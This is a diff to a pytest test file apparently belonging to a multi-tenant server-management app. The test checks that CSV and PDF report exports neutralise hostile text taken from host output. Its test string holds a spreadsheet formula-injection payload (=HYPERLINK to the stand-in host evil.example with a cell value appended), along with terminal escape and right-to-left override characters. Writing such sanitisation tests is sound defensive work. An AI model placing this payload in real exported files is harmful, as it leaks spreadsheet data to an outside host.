@@ -27,7 +27,9 @@ from servers.tenancy import Scope, scope_for_user
 
 pytestmark = pytest.mark.django_db
 MSP = Scope(user_id=None, msp_role="admin")
-HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")\x1b[31m\u202eevil\x00' + "x" * 2000
+# No NUL here: PostgreSQL cannot store one in JSON, and the runner strips it from host output
+# before anything is stored (tests/integration/jobs/test_job_flow.py).
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")\x1b[31m\u202eevil\x07' + "x" * 2000
 
 
 def _make(customer, fmt=ReportFormat.PDF, scope=MSP):
@@ -138,7 +140,7 @@ def test_host_text_is_neutralised_in_csv_and_sanitised_in_pdf(tenant_a, fleet_of
     assert hostile.startswith("'=")
     assert "\x1b" not in hostile
     assert "\u202e" not in hostile
-    assert "\x00" not in hostile
+    assert "\x07" not in hostile
     assert len(hostile) <= 2001
     pdf_report = _make(tenant_a.customer, ReportFormat.PDF)
     text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(bytes(pdf_report.content))).pages)
